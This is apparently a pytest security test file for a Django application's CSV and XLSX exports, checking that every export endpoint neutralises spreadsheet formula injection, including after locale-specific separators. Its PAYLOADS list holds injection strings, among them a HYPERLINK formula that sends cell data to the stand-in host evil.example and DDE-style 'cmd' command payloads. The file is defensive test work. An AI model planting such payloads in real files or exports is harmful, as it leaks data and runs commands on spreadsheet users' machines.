"""No export can make a spreadsheet run a formula (security test, finding 9): not at the start of
a cell, and not after a ``;``, tab, ``|`` or line break, where spreadsheets set to Vietnamese or
French start a new cell.

The endpoints are generated: every URL named ``*export*`` (with each of its tables and
formats) and the public dashboard's ``format=`` answers, for the ministry and for a unit. Every
source file that writes CSV or XLSX must do it through chancery.core.spreadsheets.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.urls import reverse
from django.utils import timezone
from hypothesis import example, given
from hypothesis import strategies as st

import chancery
from chancery.core.spreadsheets import SEPARATORS, TRIGGERS, csv_text, safe_cell, xlsx_row
from tests.factories import submit_case
from tests.security.endpoints import all_url_patterns

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
    'Hà Nội;=HYPERLINK("http://evil.example","x")',
    "Paris\t+1+cmd|' /C calc'!A0",
    "Tokyo\r-2+3",
    "Lyon | @SUM(1+1)*cmd",
    "Nantes\n ＝1+1",
]


def _pieces(value: str) -> list[str]:
    return re.split(f"[{re.escape(SEPARATORS)}]", value)


def _runs_as_formula(value: str) -> bool:
    """Would any cell a spreadsheet may cut out of this value run as a formula?"""
    return any(piece.lstrip() and piece.lstrip()[0] in TRIGGERS for piece in _pieces(value))


# ---- The helper ---------------------------------------------------------------------------------


TRICKY = st.sampled_from(list(TRIGGERS + SEPARATORS + " \u00a0\u3000'ab1\"\x0b"))


@given(st.text(alphabet=TRICKY | st.characters(), max_size=40))
@example(";=1")
@example(" \t @x")
@example("-5")
def test_no_piece_of_a_safe_cell_starts_a_formula(value):
    safe = safe_cell(value)
    assert not _runs_as_formula(safe), repr(safe)
    assert safe.replace("'", "") == value.replace("'", "")  # only apostrophes were added
    assert safe_cell(safe) == safe  # once is enough
    if not any(t in value for t in TRIGGERS):
        assert safe == value  # text without a trigger is untouched


@given(st.lists(st.text(max_size=20) | st.integers() | st.floats(allow_nan=False), max_size=6))
def test_csv_and_xlsx_rows_are_safe_and_keep_numbers(row):
    _header, line = csv.reader(io.StringIO(csv_text(["h"], [row]), newline=""))
    for original, cell in zip(row, line, strict=True):
        if isinstance(original, str):
            assert not _runs_as_formula(cell), repr(cell)
        else:
            assert cell == str(original)
    for original, cell in zip(row, xlsx_row(row), strict=True):
        if isinstance(original, str):
            assert not _runs_as_formula(cell), repr(cell)
        else:
            assert cell == original


# ---- Every export endpoint ----------------------------------------------------------------------


def _export_urls() -> list[tuple[str, str]]:
    """(url, format) for every export the URL configuration serves."""
    from chancery.directives import exports
    from chancery.portal import dashboard_exports

    urls: list[tuple[str, str]] = []
    for _path, name, _entry in all_url_patterns():
        if "export" in name.split(":")[-1]:
            assert name == "directives:export", f"{name}: a new export; add its tables here"
            urls += [(reverse(name, args=["csv"]) + f"?table={t}", "csv") for t in exports.TABLES]
            urls.append((reverse(name, args=["xlsx"]), "xlsx"))
    for page in (reverse("portal:dashboard"), reverse("portal:dashboard_unit", args=["EMB-FR"])):
        urls += [(f"{page}?format=csv&table={t}", "csv") for t in dashboard_exports.TABLES
                 if not (t == "units" and "units" in page)]
        urls.append((f"{page}?format=xlsx", "xlsx"))
    return urls


@pytest.fixture
def poisoned(org, catalog):
    """Names typed by administrators and texts pasted by staff, each with a formula."""
    from chancery.directives import services as directives

    for unit, payload in ((org.fr, PAYLOADS[1]), (org.jp, PAYLOADS[3]), (org.cd, PAYLOADS[4])):
        unit.name_en = unit.name_vi = payload
        unit.save()
    org.head.first_name, org.head.last_name = PAYLOADS[0], PAYLOADS[2]
    org.head.save()
    submit_case(org.fr)
    submit_case(org.jp)
    directives.create_directive(
        actor=org.leader, issuing_unit=org.cd, title=PAYLOADS[0], issued_by=PAYLOADS[1],
        source_text="x", tasks=[
            directives.TaskSpec(text=payload, lead_unit=org.fr, coordinating_units=[org.jp],
                                deadline=timezone.localdate() + timedelta(days=3), marker=payload[:20])
            for payload in PAYLOADS
        ],
    )
    return org


def _cells(body: bytes, fmt: str) -> list[tuple[str, Any]]:
    if fmt == "csv":
        text = body.decode("utf-8-sig")
        # A spreadsheet may cut the file on any separator: check every piece of every line.
        return [("piece", piece) for piece in re.split(f"[{re.escape(SEPARATORS)}]", text)]
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(body))
    return [(cell.data_type, cell.value) for sheet in workbook for row in sheet.iter_rows() for cell in row]


def test_no_export_endpoint_gives_a_spreadsheet_a_formula(client, poisoned):
    client.force_login(poisoned.leader)
    problems, seen = [], 0
    for url, fmt in _export_urls():
        response = client.get(url)
        assert response.status_code == 200, url
        cells = _cells(response.content, fmt)
        for kind, value in cells:
            if kind == "f":
                problems.append(f"{url}: formula cell {value!r}")
            elif isinstance(value, str):
                stripped = value.strip('"').lstrip()
                if stripped and stripped[0] in TRIGGERS and not re.fullmatch(r"-?\d+(\.\d+)?", stripped):
                    problems.append(f"{url}: {value!r}")
        seen += sum(1 for _k, v in cells if isinstance(v, str) and ("evil" in v or "cmd" in v))
    assert not problems, "\n".join(problems)
    assert seen, "the poisoned names reached no export: the test proves nothing"


def test_every_csv_or_xlsx_writer_uses_the_one_helper():
    root = Path(chancery.__file__).parent
    strays = []
    for path in root.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if path.name == "spreadsheets.py" or "migrations" in path.parts:
            continue
        # A CSV reader that appends to a list writes nothing (payments/statements.py reads bank
        # statements): `.append(` counts only beside openpyxl, whose sheets are written with it.
        writes = re.search(r"csv\.writer|csv\.DictWriter", text) or (
            re.search(r"openpyxl", text) and re.search(r"\.append\(|Workbook\(", text))
        if writes and "chancery.core.spreadsheets" not in text:
            strays.append(str(path.relative_to(root)))
    assert not strays, f"write cells through chancery.core.spreadsheets: {strays}"
